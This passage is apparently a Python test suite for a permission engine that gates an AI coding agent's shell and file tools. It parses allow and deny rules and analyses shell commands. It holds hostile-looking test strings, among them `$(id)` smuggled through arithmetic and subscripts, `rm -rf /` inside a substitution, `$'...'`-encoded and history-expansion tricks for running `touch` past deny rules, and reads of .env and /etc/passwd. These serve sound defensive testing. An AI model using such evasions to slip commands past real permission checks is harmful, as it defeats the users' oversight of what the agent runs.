        assert _who(star, C, cmd).decision == _who(bare, C, cmd).decision


def test_wildcard_positions():
    r = parse_rule("execute_command(* --version)", ALLOW)
    assert rule_matches(r, C, {"command": "python --version"})
    assert not rule_matches(r, C, {"command": "python -V --version"})
    assert not rule_matches(r, C, {"command": "--version"})
    r = parse_rule("execute_command(git * main)", ALLOW)
    assert rule_matches(r, C, {"command": "git push main"})
    assert not rule_matches(r, C, {"command": "git push origin main"})
    r = parse_rule("execute_command(echo '*')", ALLOW)  # a quoted star is literal
    assert rule_matches(r, C, {"command": "echo '*'"})
    assert rule_matches(r, C, {"command": 'echo "*"'})
    assert not rule_matches(r, C, {"command": "echo x"})
    assert not rule_matches(r, C, {"command": "echo *"})  # unquoted: a glob, not simple


def test_words_after_a_star_must_still_match():
    layers = [layer(USER, (ALLOW, "execute_command(git * main)"))]
    assert _who(layers, C, "git push main").decision == ALLOW
    d = _who(layers, C, "git push --force")  # the star is one word, not the rest
    assert (d.decision, d.who) == (ASK, "built-in default")


def test_deny_folds_the_command_word_only():
    layers = [layer(USER, (DENY, "execute_command(git push *)"))]
    d = _who(layers, C, "GIT push origin", mode="unrestricted")
    assert (d.decision, d.who) == (DENY, f'rule "execute_command(git push *)" in {USER}')
    d = _who(layers, C, "GIT status", mode="unrestricted")  # the words after it are exact
    assert (d.decision, d.who) == (ALLOW, "mode unrestricted")


def test_session_exact_rule():
    session = [layer(USER, (DENY, "execute_command(rm *)")),
               (SESSION, [exact_rule(C, {"command": "git status | head -5"})])]
    assert _who(session, C, "git status | head -5").decision == ALLOW
    assert _who(session, C, "git status | head -6").decision == ASK
    assert _who(session, C, "git status | head -5 ").decision == ASK  # exact string
    rm_session = [layer(USER, (DENY, "execute_command(rm *)")),
                  (SESSION, [exact_rule(C, {"command": "rm -rf build"})])]
    assert _who(rm_session, C, "rm -rf build").decision == DENY  # deny still wins
    with pytest.raises(ValueError):
        exact_rule(C, {"command": "ls"}, decision="permit")
    edits = [(SESSION, [exact_rule("edit_file", {"path": "./src/x.py"})])]
    assert _who(edits, "edit_file", "src/x.py").decision == ALLOW
    assert _who(edits, "edit_file", "/work/proj/src/x.py").decision == ALLOW
    assert _who(edits, "edit_file", "src/y.py").decision == ASK
    hooks = [(SESSION, [exact_rule("write_file", {"path": ".git/hooks/pre-commit"})])]
    assert _who(hooks, "write_file", ".git/hooks/pre-commit").decision == ASK  # protection
    r = exact_rule(C, {"command": "ls | wc"})
    assert r.exact and r.layer == SESSION and r.text == "execute_command(ls | wc)"
    with pytest.raises(RuleError):
        exact_rule(C, {})
    with pytest.raises(RuleError):
        exact_rule("nope", {"command": "x"})


def test_an_exact_deny_rule_matches_any_name_of_the_file():
    deny = [(SESSION, [exact_rule("read_file", {"path": "secret.txt"}, DENY)])]
    d = _who(deny, "read_file", "./secret.txt")
    assert (d.decision, d.who) == (DENY, 'rule "read_file(secret.txt)" in session')
    assert _who(deny, "read_file", "docs/link", aliases=["secret.txt"]).decision == DENY
    assert _who(deny, "read_file", "other.txt").decision == ALLOW
    assert evaluate(deny, "read_file", {"path": "a\x00b"}, root=ROOT).decision == DENY  # fails closed


def test_aliases_symlink_resolved_names():
    # docs/link -> ../.git/hooks: the lexical path is under docs/, the real one is not
    d = _who(STD, "write_file", "docs/link/pre-commit", aliases=[".git/hooks/pre-commit"])
    assert d.decision == ASK and "protection" in d.who
    d = _who(STD, "write_file", "docs/link/x", aliases=["private/x"])
    assert d.decision == ASK  # an allow needs every name to match
    d = _who(STD, "read_file", "docs/link", aliases=[".env"])
    assert d.decision == DENY  # a deny needs one name
    d = _who(NONE, "write_file", "a/b", mode="accept-edits", aliases=["/outside/b"])
    assert d.decision == ASK


def test_invalid_main_argument_fails_closed():
    layers = [layer(USER, (DENY, "execute_command(rm *)"), (DENY, "read_file(secret)"))]
    assert evaluate(layers, C, {}, root=ROOT).decision == DENY
    assert evaluate(layers, C, {"command": 5}, root=ROOT).decision == DENY
    assert evaluate(layers, "read_file", {"path": "a\x00b"}, root=ROOT).decision == DENY
    assert evaluate(layers, "read_file", None, root=ROOT).decision == DENY
    assert evaluate(NONE, "write_file", {}, root=ROOT, mode="accept-edits").decision == ASK
    allow = [layer(USER, (ALLOW, "execute_command(*)"))]
    assert evaluate(allow, C, {"command": None}, root=ROOT).decision == ASK


def test_list_directory_defaults_to_the_root():
    layers = [layer(USER, (DENY, "list_directory(.)"))]
    assert evaluate(layers, "list_directory", {}, root=ROOT).decision == DENY
    assert evaluate(layers, "list_directory", {"path": "src"}, root=ROOT).decision == ALLOW


def test_unknown_tool_and_mode():
    assert evaluate(NONE, "rm_rf", {}, root=ROOT).decision == DENY
    with pytest.raises(ValueError):
        evaluate(NONE, "read_file", {"path": "a"}, root=ROOT, mode="yolo")


def test_execute_command_cwd_in_git_is_protected():
    d = evaluate(NONE, C, {"command": "touch pre-commit", "cwd": ".git/hooks"}, root=ROOT,
                 mode="unrestricted")
    assert d.decision == ASK


# -- rule syntax ------------------------------------------------------------------------


def test_parse_rule_fields():
    r = parse_rule("  execute_command(git log *) ", ALLOW, USER, match=["git log -p"],
                   not_match=("git status",))
    assert r == Rule(C, "git log *", "execute_command(git log *)", ALLOW, USER,
                     ("git log -p",), ("git status",))
    assert parse_rule("write_file").pattern is None
    assert parse_rule("write_file").decision == ASK
    assert parse_rule("write_file( docs/** )").pattern == "docs/**"
    assert parse_rule("execute_command(echo '(x)')").pattern == "echo '(x)'"
    with pytest.raises(RuleError):
        parse_rule("execute_command(echo (x))")


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("Bash(ls)", "did you mean execute_command"),
        ("Read(.env)", "did you mean read_file"),
        ("READ_FILE(.env)", "did you mean read_file"),
        ("shell_command(ls)", "unknown tool"),
        ("*", "no tool wildcard"),
        ("*(ls)", "no tool wildcard"),
        ("", "empty rule"),
        ("   ", "empty rule"),
        ("execute_command(git status", "never closed"),
        ("execute_command git status)", "without '('"),
        ("execute_command(git status))", "unbalanced"),
        ("execute_command((git status)", "unbalanced"),
        ("execute_command()", "empty pattern"),
        ("execute_command(   )", "empty pattern"),
        ("write_file()", "empty pattern"),
        ("execute_command(ls) x", "after the closing"),
        ("execute_command(ls\x00)", "NUL"),
        ("execute_command(ls\n)", "control character"),
        ("read_file(a\u200bb)", "invisible"),
        ("read_file(a\u3164b)", "invisible character U+3164"),  # a Hangul filler: blank, but a letter
        ("read_file(a\x1fb)", "control character U+001F"),
        ("read_file(a\x7fb)", "control character U+007F"),
        ("read_file(a\x9fb)", "control character U+009F"),
        ("read_file(a)b", "after the closing ')': 'b'"),
        ("read_file(a)(b)", "unbalanced parentheses in the pattern"),
        ("(ls)", "no tool name"),
        ("execute_command(ls; rm)", "one simple command"),
        ("execute_command(ls | wc)", "pipe"),
        ("execute_command(ls && rm)", "list"),
        ("execute_command(FOO=1 make)", "environment-variable prefix"),
        ("execute_command(ls > x)", "redirection"),
        ("execute_command(ls $(x))", "substitution"),
        ("execute_command(ls $HOME)", "variable expansion"),
        ("execute_command((ls))", "subshell"),
        # a pattern is analysed from the top level: 31 parentheses are a subshell, 32 too deep
        ("execute_command(" + "(" * 31 + "ls" + ")" * 31 + ")", "it contains a subshell"),
        ("execute_command(" + "(" * 32 + "ls" + ")" * 32 + ")", "does not parse: nested too deeply"),
        ("execute_command(git log*)", "whole word"),
        ("execute_command(ls *.py)", "whole word"),
        ("execute_command(ls [ab].py)", "whole word"),
        ("execute_command('unterminated)", "does not parse"),
        ("execute_command(ls；rm)", "look-alike"),
        ("execute_command(ls # c)", "comment"),
        ("write_file(/etc/**)", "relative to the working directory"),
        ("write_file(~/x)", "not expanded"),
        ("write_file(../x)", "'..'"),
        ("write_file(docs/../x)", "'..'"),
    ],
)
def test_parse_errors(text, needle):
    with pytest.raises(RuleError) as exc:
        parse_rule(text, DENY)
    assert needle in str(exc.value)
    assert isinstance(exc.value, ValueError)


def test_an_unknown_tool_gets_no_made_up_suggestion():
    with pytest.raises(RuleError) as exc:
        parse_rule("Foo(x)")
    assert "unknown tool 'Foo'" in str(exc.value) and "did you mean" not in str(exc.value)


def test_parse_rule_rejects_bad_inputs():
    with pytest.raises(ValueError):
        parse_rule("read_file", "permit")
    with pytest.raises(RuleError):
        parse_rule(None)  # type: ignore[arg-type]
    with pytest.raises(RuleError):
        parse_rule("read_file(x)", match=[1])  # type: ignore[list-item]


def test_default_rules():
    defaults = default_rules()
    bare = {r.tool: r.decision for r in defaults if r.pattern is None}
    assert bare == {"read_file": ALLOW, "list_directory": ALLOW, "search_workspace": ALLOW, "write_file": ASK,
                    "edit_file": ASK, "execute_command": ASK}
    sticky = [r for r in defaults if r.sticky]
    assert {r.tool for r in sticky} == {"write_file", "edit_file"}
    assert all(r.decision == ASK and r.layer == "built-in" for r in sticky)
    assert {r.pattern for r in sticky} == {f"**/{p}" for e in alwaysask.TABLE for p in e.patterns}
    assert {"**/.git/**", "**/.dashfloat/**", "**/.envrc"} <= {r.pattern for r in sticky}
    assert len(sticky) == 2 * len(alwaysask.patterns())
    defaults.clear()  # a copy
    assert default_rules()


def test_every_built_in_rule_passes_the_checks_it_skips_at_start_up():
    """The built-in rules are parsed `trusted` (no character check, no regex compiled): each
    must be exactly what the full parse makes of its text, and its pattern must compile."""
    for rule in default_rules():
        checked = parse_rule(rule.text, rule.decision, rule.layer)
        assert (checked.tool, checked.pattern, checked.text) == (rule.tool, rule.pattern, rule.text)
        assert rule.pattern is None or rules._path_pattern(rule.pattern, rule.text)[0].pattern


# -- paths ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "root", "expected"),
    [
        ("a/b", ROOT, "a/b"),
        ("./a//b/", ROOT, "a/b"),
        ("a/../b", ROOT, "b"),
        ("..", ROOT, None),
        ("a/../../x", ROOT, None),
        ("/work/proj", ROOT, "."),
        ("/work/proj/", ROOT, "."),
        ("/work/proj/src/x.py", ROOT, "src/x.py"),
        ("//work//proj//src", ROOT, "src"),
        ("/work/proj-evil/x", ROOT, None),
        ("/etc/passwd", ROOT, None),
        ("", ROOT, "."),
        (".", ROOT, "."),
        ("~/x", ROOT, "~/x"),
        ("a\x00b", ROOT, None),
        (None, ROOT, None),
        ("a/b", None, "a/b"),
        ("/a/b", None, None),
        ("x", "/", "x"),
        ("/x/y", "/", "x/y"),
    ],
)
def test_normalize_path(path, root, expected):
    assert normalize_path(path, root) == expected


@pytest.mark.parametrize(
    ("pattern", "yes", "no"),
    [
        ("docs/**", ["docs", "docs/a", "docs/a/b.md", "docs/.hidden"], ["docsx/a", "x/docs/a", "."]),
        ("docs/", ["docs", "docs/a/b"], ["docsx"]),
        ("docs/*", ["docs/a", "docs/.x"], ["docs", "docs/a/b"]),
        ("*.md", ["a.md", ".md"], ["d/a.md", "a.mdx"]),
        ("**/*.md", ["a.md", "d/a.md", "d/e/a.md"], ["a.txt"]),
        (".env", [".env"], ["sub/.env", ".env.local"]),
        ("./.env", [".env"], ["sub/.env"]),
        ("**/.env", [".env", "a/.env", "a/b/.env"], [".envx"]),
        ("a/**/b", ["a/b", "a/x/b", "a/x/y/b"], ["a/xb", "b"]),
        ("src/?.py", ["src/a.py"], ["src/ab.py", "src//.py"]),
        ("src/[ab].py", ["src/a.py", "src/b.py"], ["src/c.py"]),
        ("src/[!ab].py", ["src/c.py"], ["src/a.py"]),
        ("**", [".", "a", "a/b"], []),
        (".", ["."], ["a"]),
        ("a/**/**", ["a", "a/b"], ["b"]),
        ("lit\\*", ["lit*"], ["litx"]),
        ("we[ird", ["we[ird"], ["weird"]),
        # escapes and bracket expressions, as a shell's glob reads them
        ("a\\*b\\?c", ["a*b?c"], ["axbyc", "a*bxc"]),
        ("end\\", ["end\\"], ["end"]),  # a trailing backslash is itself
        ("[ab].py", ["a.py", "b.py"], ["].py", "ab.py", "c.py", "[ab].py"]),
        ("[!ab].py", ["c.py", "!.py", "].py"], ["a.py", "b.py", "cd.py"]),
        ("[^ab].py", ["c.py", "^.py"], ["a.py"]),
        ("[]a].py", ["].py", "a.py"], ["b.py"]),  # a first ']' is in the set
        ("[!]a].py", ["b.py"], ["].py", "a.py"]),
        ("[a-c]x", ["bx"], ["dx", "-x"]),
        ("[a^&~|]x", ["^x", "&x", "~x", "|x", "ax"], ["bx"]),  # regex syntax inside is literal
        ("[!]", ["[!]"], ["a", "!"]),  # never closed: literal
        ("x[", ["x["], ["x"]),
        ("[]]x", ["]x"], ["[]]x", "ax"]),  # the set of one ']'
        ("[!]]x", ["ax"], ["]x"]),
        ("*.txt", ["a.txt", ".txt"], ["atxt", "a.txtx"]),
    ],
)
def test_path_globs(pattern, yes, no):
    allow = parse_rule(f"write_file({pattern})", ALLOW)
    for path in yes:
        assert rule_matches(allow, "write_file", {"path": path}, root=ROOT), path
    for path in no:
        assert not rule_matches(allow, "write_file", {"path": path}, root=ROOT), path


def test_deny_path_matching_is_folded_but_allow_is_exact():
    deny = parse_rule("read_file(secrets/**)", DENY)
    allow = parse_rule("read_file(secrets/**)", ALLOW)
    for variant in ("Secrets/k", "SECRETS/K", "secrets./k", "secre\u200dts/k",
                    "secrets /k", "s\u0065\u0301crets/k".replace("\u0065\u0301", "e")):
        assert rule_matches(deny, "read_file", {"path": variant}, root=ROOT), variant
    assert not rule_matches(allow, "read_file", {"path": "Secrets/k"}, root=ROOT)
    nfd = parse_rule("read_file(caf\u00e9/**)", DENY)
    assert rule_matches(nfd, "read_file", {"path": "cafe\u0301/x"}, root=ROOT)


def test_outside_paths_match_no_pattern():
    deny = parse_rule("read_file(**)", DENY)
    assert not rule_matches(deny, "read_file", {"path": "/etc/passwd"}, root=ROOT)
    assert rule_matches(deny, "read_file", {"path": "/work/proj/x"}, root=ROOT)


# -- shell analysis ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "flag"),
    [
        ("a; b", rules.LIST), ("a && b", rules.LIST), ("a || b", rules.LIST),
        ("a & b", rules.LIST), ("a\nb", rules.LIST), ("a | b", rules.PIPE),
        ("a $(b)", rules.SUBSTITUTION), ("a `b`", rules.SUBSTITUTION),
        ("a <(b)", rules.SUBSTITUTION), ("a >(b)", rules.SUBSTITUTION),
        ("a > b", rules.REDIRECTION), ("a >> b", rules.REDIRECTION),
        ("a < b", rules.REDIRECTION), ("a 2> b", rules.REDIRECTION),
        ("a &> b", rules.REDIRECTION), ("a &> b", rules.LIST),  # dash: `a &` then `> b`
        ("a\n> b", rules.LIST), ("a <<E\nx\nE", rules.REDIRECTION),
        ("a >| b", rules.REDIRECTION), ("a <> b", rules.REDIRECTION),
        ("A=1 b", rules.ENV_PREFIX), ("A=1", rules.ENV_PREFIX), ("A+=1 b", rules.ENV_PREFIX),
        ("(a)", rules.SUBSHELL), ("{ a; }", rules.COMPOUND), ("! a", rules.COMPOUND),
        ("f() (a)", rules.COMPOUND), ("a\n(b)", rules.LIST),
        ("a $B", rules.EXPANSION), ("a ${B}", rules.EXPANSION), ("a $1", rules.EXPANSION),
        ("a $((1+2))", rules.EXPANSION), ('a $"x"', rules.EXPANSION),
        ("a *", rules.GLOB), ("a ?", rules.GLOB), ("a [ab]", rules.GLOB),
        ("a x[]", rules.GLOB),  # bash reads this `[]` literally: over-approximated, fails closed
        ("a [b][", rules.GLOB), ("a {b,c}{", rules.BRACE),  # the first [ or { counts
        ("a {b,c}", rules.BRACE), ("a {1..3}", rules.BRACE), ("a ~", rules.TILDE),
        ("a x=~/y", rules.TILDE), ("$'a'", rules.ANSI_C), ("a\\\nb", rules.LINE_CONTINUATION),
        ("a # c", rules.COMMENT), ("\u00e4", rules.NON_ASCII), ("a\u00a0b", rules.LOOKALIKE),
        ("a ＂b＂", rules.LOOKALIKE), ("a \u201cb\u201d", rules.LOOKALIKE),
        ("a\u200b", rules.INVISIBLE), ("a \u2066b", rules.INVISIBLE),
        ("a '", rules.UNPARSABLE), ('a "', rules.UNPARSABLE), ('a "\\"', rules.UNPARSABLE), ("a `b", rules.UNPARSABLE),
        ("a $(b", rules.UNPARSABLE), ("a )", rules.UNPARSABLE), ("a \\", rules.UNPARSABLE),
        ("a ${b", rules.UNPARSABLE), ("a >", rules.UNPARSABLE), ("a\x07", rules.UNPARSABLE),
        ("a $'\\", rules.UNPARSABLE), ("a $'\\'", rules.UNPARSABLE), ("a $'\\c", rules.UNPARSABLE),
        ("a $'\\c\\", rules.UNPARSABLE),
        ("cat <<E\nno end", rules.UNPARSABLE), ("cat <<E", rules.UNPARSABLE),
        ("", rules.EMPTY), ("  \n ", rules.EMPTY),
    ],
)
def test_analysis_flags(command, flag):
    a = analyze_command(command)
    assert flag in a.flags, (command, a.flags)
    assert not a.is_simple


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        ("git status", ["git", "status"]),
        ("  git   status  ", ["git", "status"]),
        ("'git' \"st\"atus", ["git", "status"]),
        ("git\\ status", ["git status"]),
        ("echo 'a b' \"c d\"", ["echo", "a b", "c d"]),
        ('echo "a\\"b" \'c\\d\'', ["echo", 'a"b', "c\\d"]),
        ("echo a#b", ["echo", "a#b"]),
        ("echo 'é'", ["echo", "é"]),
        ("make CC=gcc", ["make", "CC=gcc"]),
        ("echo {}", ["echo", "{}"]),
        ("git log @{u}", ["git", "log", "@{u}"]),
        ("echo '$(x)' '*'", ["echo", "$(x)", "*"]),
        ("echo x] a,b} a\\b", ["echo", "x]", "a,b}", "ab"]),
        ("echo a][ b}{", ["echo", "a][", "b}{"]),  # a ] or } before the [ or { closes nothing
        ('echo "a$" "$\'b\'"', ["echo", "a$", "$'b'"]),  # no expansion: $ as text, no $'' in "..."
    ],
)
def test_simple_commands(command, argv):
    a = analyze_command(command)
    assert a.is_simple, a.flags
    assert a.simple == [argv]
    assert not a.opaque
    assert a.shape == ""


@pytest.mark.parametrize("tail", ["; to$'u'ch /tmp/M", "; to$'\\x75'ch /tmp/M", '; to$"u"ch /tmp/M',
                                  "; $'\\164ouch' /tmp/M"])
def test_a_command_too_long_to_parse_is_denied_by_its_words_decoded(tail):
    """A line that does not parse matches a deny rule whose command word is one of its words;
    `$'...'` pieces are decoded first (bash reads `to$'u'ch` as touch)."""
    deny = [layer(USER, (DENY, "execute_command(touch *)"))]
    command = "cat " + "a " * 40000 + tail
    assert analyze_command(command).unparsable
    assert _who(deny, C, command, mode="unrestricted").decision == DENY


@pytest.mark.parametrize(
    ("command", "argv", "problem"),
    [
        # sh refuses these (exit 2), but the words still name what the user meant: the checks
        # of .git, .dashfloat and git's -C directories read them
        ("echo 'a b", ["echo", "a b"], "unterminated single quote"),
        ("cat a'.git/config", ["cat", "a.git/config"], "unterminated single quote"),
        ("echo x'", ["echo", "x"], "unterminated single quote"),
        # sh runs this one, with the backslash as a word of its own
        ("git status \\", ["git", "status", "\\"], "a backslash at the very end"),
        ("echo a\\", ["echo", "a\\"], "a backslash at the very end"),
    ],
)
def test_words_of_a_command_that_does_not_parse(command, argv, problem):
    a = analyze_command(command)
    assert a.simple == [argv]
    assert a.problems == [problem]
    assert a.unparsable and a.deeply_opaque


def _arith(text: str) -> list[list[str]]:
    return [["echo", text, "x"]]


@pytest.mark.parametrize(
    ("command", "simple"),
    [
        # quotes, a backslash and substitutions inside $(( )) hide their parentheses from bash;
        # dash, which reads quotes there as text, ends each of these at the same "))"
        ("echo $(( 1 \\) 2 )) x", _arith("$(( 1 \\) 2 ))")),
        ("echo $(( \\)')' )) x", _arith("$(( \\)')' ))")),
        ("echo $(( ')' )) x", _arith("$(( ')' ))")),
        ("echo $((')')) x", _arith("$((')'))")),
        ("echo $(( '' ')' )) x", _arith("$(( '' ')' ))")),
        ("echo $(( ('x)') )) x", _arith("$(( ('x)') ))")),
        ('echo $(( ")" )) x', _arith('$(( ")" ))')),
        ('echo $(( "" ")" )) x', _arith('$(( "" ")" ))')),
        ("echo $(( $')' )) x", _arith("$(( $')' ))")),
        ("echo $(( $'\\')' + 1 )) x", _arith("$(( $'\\')' + 1 ))")),  # bash: with its escapes
        ("echo $(( (1) )) x", _arith("$(( (1) ))")),
        ("echo $(( $(echo ')') )) x", [["echo", ")"]] + _arith("$(( $(echo ')') ))")),
        # both shells expand the inside as double-quoted text: a substitution in quotes runs
        ("echo $(( '$(id)' )) x", [["id"]] + _arith("$(( '$(id)' ))")),
        ("echo $(( \"`id`\" )) x", [["id"]] + _arith("$(( \"`id`\" ))")),
        ("echo $(( '\\$(id)' )) x", _arith("$(( '\\$(id)' ))")),  # an escaped $ is text
        ("echo $(($(id))) x", [["id"]] + _arith("$(($(id)))")),  # its whole text is read
        ("echo $((1)) x", _arith("$((1))")),
        ("echo $(( ((1)) )) x", _arith("$(( ((1)) ))")),  # dash counts the "(" too
        ("echo $(( $(echo ')))') )) x", [["echo", ")))"]] + _arith("$(( $(echo ')))') ))")),
        ("echo $(( $((1)) + 1 )) x", _arith("$(( $((1)) + 1 ))")),
    ],
)
def test_arithmetic_expansion_ends_at_its_own_close(command, simple):
    a = analyze_command(command)
    assert (a.simple, a.problems) == (simple, [])
    assert a.candidates[:len(simple)] == simple  # then those of dash's reading of $'...', if any
    assert a.flags >= {rules.EXPANSION}


@pytest.mark.parametrize(
    ("command", "simple"),
    [
        # bash: the command substitution `$( (rm -rf /) )`; dash: a syntax error
        ("echo $((rm -rf /) ) x", [["rm", "-rf", "/"]] + _arith("$((rm -rf /) )")),
        # bash: `$( ( 1 ) )`, then a quoted word; dash: arithmetic up to the "))" inside the
        # quote, so the `$(id)` runs, and the quote goes on to the next line
        ("echo $(( 1 ) ) '$(id) ))\nx'", [["1"], ["echo", "$(( 1 ) )", "$(id) ))\nx"]]),
        # dash reads the quote as text and ends at the first "))": `id` is a command of its own
        ("false && echo $(( '))\nid\necho ' ))", [["false"], ["echo", "$(( '))\nid\necho ' ))"]]),
    ],
)
def test_where_sh_and_bash_end_arithmetic_differently_the_line_does_not_parse(command, simple):
    a = analyze_command(command)
    assert (a.simple, a.problems) == (simple, ["sh and bash end this '$((' at different places"])
    assert a.unparsable and a.deeply_opaque


def test_an_unclosed_arithmetic_expansion_does_not_parse():
    a = analyze_command("echo $((1 + $(id) + 2")
    assert (a.simple, a.problems) == ([["id"], ["echo", "$((1 + $(id) + 2"]], ["'$((' is never closed"])
    b = analyze_command("echo $(( `echo )` )) x")  # the backquote's own text does not parse
    assert b.unparsable and rules.SUBSTITUTION in b.flags


def test_an_arithmetic_command_is_read_as_both_shells_read_it():
    """dash reads `(( ... ))` as two subshells, bash as an arithmetic command whose text is
    expanded as double-quoted text (`for (( ... ))` too): the commands of both readings."""
    for command, simple in [
        ("(( echo x ))", [["echo", "x"]]),
        ("(( '$(id)' ))", [["id"], ["$(id)"]]),
        ("(($(id)))", [["id"], ["id"], ["$(id)"]]),  # bash's reading, then dash's
        ("(('`id`') )", [["`id`"]]),  # bash: `( ('`id`') )`, subshells as in dash
        ("for (( i=0; '$(id)'; i++ )); do :; done", None),
    ]:
        a = analyze_command(command)
        assert a.problems == [] and rules.SUBSHELL in a.flags, command
        if simple is None:
            assert ["id"] in a.simple
        else:
            assert a.simple == simple, command


def test_bash_old_arithmetic_does_not_parse():
    """bash reads `$[ ... ]` like "$((": up to the balancing "]" across spaces and quotes, its
    text expanded as double-quoted text; dash reads "$[" as text."""
    problem = "'$[' (bash's arithmetic; sh reads it as text)"
    for command, simple in [
        ("cat $[ '$(id)' ] x", [["id"], ["cat", "$[ '$(id)' ]", "x"]]),
        ("cat $[ ']' [1] \\] ]x y", [["cat", "$[ ']' [1] \\] ]x", "y"]]),
        ('cat "$[ `id` ]" x', [["id"], ["cat", "$[ `id` ]", "x"]]),
        ("cat $[ 1", [["cat", "$[ 1"]]),
    ]:
        a = analyze_command(command)
        assert (a.simple, a.problems) == (simple, [problem]), command
        assert a.flags >= {rules.EXPANSION, rules.UNPARSABLE}
    assert "nested too deeply" not in analyze_command("cat " + "$[" * 31 + "1" + "]" * 31).problems
    assert analyze_command("cat " + "$[" * 32 + "1" + "]" * 32).problems[-1] == "nested too deeply"


@pytest.mark.parametrize("context", [
    "echo %s", 'echo "%s"', "cat <<E\n%s\nE", "cat <<E\n${x:-%s}\nE", "x=%s", "a[%s]=1",
    "echo ${x:-%s}", 'echo "${x:-%s}"', "echo $((%s))", 'echo "$((%s))"', "echo $[%s]",
    "(( %s ))", "case %s in x) ;; esac", "for x in %s; do :; done", 'test -v "a[%s]"',
])
def test_a_backquote_is_judged_as_a_dollar_parenthesis_is(context):
    """`` `id` `` and `$(id)` are the same command substitution: the same commands, flags,
    problems, and the same words known only when the line runs (a here-document's body
    included: what it feeds is not known before)."""
    def judged(substitution):
        a = analyze_command(context % substitution)
        simple = [[w.replace(substitution, "SUB") for w in argv] for argv in a.simple]
        return simple, a.flags, a.problems, a.opaque, a.deeply_opaque, a.dynamic_words

    assert judged("`id`") == judged("$(id)")


def test_a_substitution_in_a_quoted_array_subscript_is_a_command():
    """bash evaluates `name[...]` in many builtins' arguments (test -v, [ x -eq y ], [[ ]],
    printf -v, read, let, declare, export, mapfile...) as an array subscript, and runs its
    `$(...)` or backquote, quoted or not. Any quoted word with `name[` and then a
    substitution is read for it."""
    for command in ("test -v 'a[$(id)]'", 'test -v "a[\\$(id)]"', "test -v a[\\$\\(id\\)]",
                    "[ '1+_9[`id`]' -eq 1 ]", "let 'x=a[\n$(id)]'"):
        a = analyze_command(command)
        assert ["id"] in a.simple and a.problems == [], command
        assert rules.SUBSTITUTION in a.flags and any(a.dynamic_words[-1])
    for command in ("printf 'a[%s]' x", "echo '[$(id)]'", "echo 'a$(id)['", "echo 'a[]' '$(id)'"):
        a = analyze_command(command)
        assert (len(a.simple), a.flags) == (1, frozenset()), command


def test_a_single_quote_inside_a_quoted_parameter_expansion_does_not_parse():
    """dash and bash --posix end "${x:-'a}b'}" at the first "}", bash at the second; all of
    them run the `$(id)` in "${x:-'$(id)'}" (the quote is text there)."""
    for command in ('echo "${x:-\'$(id)\'}"', "cat <<E\n${x:-'$(id)'}\nE"):
        a = analyze_command(command)
        assert ["id"] in a.simple, command
        assert a.problems == ["a single quote inside a quoted '${' (shells read it differently)"]
    a = analyze_command("echo ${x:-'$(id)'}")  # unquoted, it is a quote in every shell
    assert (a.simple, a.problems) == ([["echo", "${x:-'$(id)'}"]], [])
    # bash: `$'\''` is a quote, then `; id` runs; dash: all of it is the word
    b = analyze_command("echo ${x:-$'\\''}; id\n'}")
    assert b.problems == ["$'...' inside '${' (bash decodes it, sh does not)"]
    assert "id" in b.loose_words


@pytest.mark.parametrize("command", [
    "set -o history -H\necho touch\n!$ M", "set -o history -o histexpand\necho x; touxh M\n^xh^ch",
    "set -o history -H\necho x touxh M\n!!:2-$:s/x/c/", "set -o history -H\nls touch M\n!!:1-2",
    "shopt -so history histexpand\necho touch\n!$ M", "set -Ho history\necho touch\n!$ M",
    "builtin set -o history -H\necho touch\n!$ M", "eval 'set -o history -H'\necho touch\n!$ M",
])
def test_bash_history_expansion_does_not_parse(command):
    """With history and histexpand on (`set -o history -H`), bash expands `!$`, `!!:1-2`,
    `^a^b` in the lines after it into commands the text does not show: not parsed."""
    a = analyze_command(command)
    assert rules.UNPARSABLE in a.flags and a.deeply_opaque, command
    allow = [layer(USER, (ALLOW, "execute_command(echo *)"), (ALLOW, "execute_command(set *)"))]
    assert _who(allow, C, command).decision == ASK
    deny = [layer(USER, (DENY, "execute_command(touch *)"))]
    assert _who(deny, C, command, mode="unrestricted").decision in (ASK, DENY)


@pytest.mark.parametrize("command", [
    "shopt -s extglob\necho @(#) ; touch M\n)", "shopt -s extglob\necho !(#) ; touch M\n)",
    "shopt -s extglob\necho @(<<E)\ntouch M\nE", "shopt -s extglob\necho +(#) ; touch M\n)",
    "eval 'shopt -s extglob'\necho *(#) ; touch M\n)", "[[ a == @(#) ]] ; touch M\n)",
    "[[ a == ?(<<E) ]]\ntouch M\nE",
])
def test_bash_extended_patterns_do_not_parse(command):
    """With extglob on (`shopt -s extglob`; always inside `[[ ]]`), bash reads `@(#) ; touch M
    )` as one pattern: no comment, no subshell, and `touch M` runs. Not parsed."""
    a = analyze_command(command)
    assert rules.UNPARSABLE in a.flags, command
    deny = [layer(USER, (DENY, "execute_command(touch *)"))]
    assert _who(deny, C, command, mode="unrestricted").decision == DENY


@pytest.mark.parametrize("command, problem", [
    ("alias x=y; ls", "'alias' changes how the commands after it are read"),
    ("hash -p /bin/rm ls; ls", "'hash' changes how the commands after it are read"),
    ("hash -rp /bin/rm ls; ls", "'hash' changes how the commands after it are read"),
    ("enable -f lib.so x; ls", "'enable' changes how the commands after it are read"),
    ("[[ x =~ y ]]", "a '[[ =~ ]]' regex (bash reads | ( # in it as text)"),
    ("echo BASH_CMDS; ls", "BASH_ALIASES or BASH_CMDS changes how the commands after it are read"),
    ("echo $BASH_ALIASES; ls", "BASH_ALIASES or BASH_CMDS changes how the commands after it are read"),
    # one command: nothing after it is read differently
    ("alias x=y", None), ("hash -p /bin/rm ls", None), ("enable -f lib.so x", None),
    ("echo BASH_CMDS", None),
    # no definition, no path given, no library loaded
    ("alias x; ls", None), ("alias; ls", None), ("hash -r; ls", None), ("hash p; ls", None),
    ("enable -n x; ls", None), ("enable f; ls", None),
    # the options of other programs; a program's own name is no argument
    ("ls -p; ls", None), ("ls -f; ls", None), ("ls x=y; ls", None),
    ("'a=b/alias' x; ls", None), ("'-p/hash' -r; ls", None), ("'-f/enable' -n; ls", None),
    ("[[ x == y ]]", None), ("echo =~", None),
])
def test_commands_that_change_how_the_next_are_read(command, problem):
    """An alias, `hash -p`, `enable -f`, BASH_ALIASES/BASH_CMDS change what the commands after
    them run, and bash reads a `[[ =~ ]]` regex as text: the line does not parse, and the
    problem says why. The same words elsewhere change nothing."""
    a = analyze_command(command)
    assert a.problems == ([problem] if problem else []), command
    assert (rules.UNPARSABLE in a.flags) == bool(problem), command


